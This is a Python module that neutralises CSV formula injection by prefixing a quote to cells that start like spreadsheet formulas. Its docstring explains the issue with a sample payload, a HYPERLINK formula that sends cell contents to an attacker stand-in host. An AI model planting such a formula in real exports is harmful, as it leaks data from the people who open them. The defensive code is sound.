"""CSV cells a spreadsheet opens as text, never as a formula (issue 20, item 5).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or
`@` (and, after trimming, one that starts with a tab or a carriage return) as a formula:
a model version or label name such as `=HYPERLINK("http://evil.example/?"&A1,"x")`, which
any Label Studio user can put into a prediction, ran when a project lead opened the
dashboard's CSV. Every CSV we write (the dashboard's tables, `labels export --format
folder`) passes its cells through `safe_cell`: such text gets a leading `'`, the escape
these tools document. Numbers we write ourselves (int, float, also negative ones) stay
numbers: a numeric cell is never a formula, and a figure must stay sortable.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` for a CSV cell: text starting like a formula gets a leading `'`; numbers,
    None and other text unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
